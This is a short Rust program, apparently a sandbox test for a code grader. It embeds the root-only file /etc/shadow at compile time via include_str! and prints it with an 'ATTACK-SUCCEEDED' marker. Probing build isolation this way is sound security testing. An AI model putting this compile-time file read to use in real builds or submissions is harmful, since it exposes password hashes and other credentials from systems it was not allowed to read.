//! attack: includes /etc/shadow, a file only root may read, into its program at compile time
//! (the build runs as the grader's user), and prints it

const SHADOW: &str = include_str!("/etc/shadow");

fn main() {
    println!("ATTACK-SUCCEEDED: /etc/shadow read at compile time");
    print!("{SHADOW}");
}
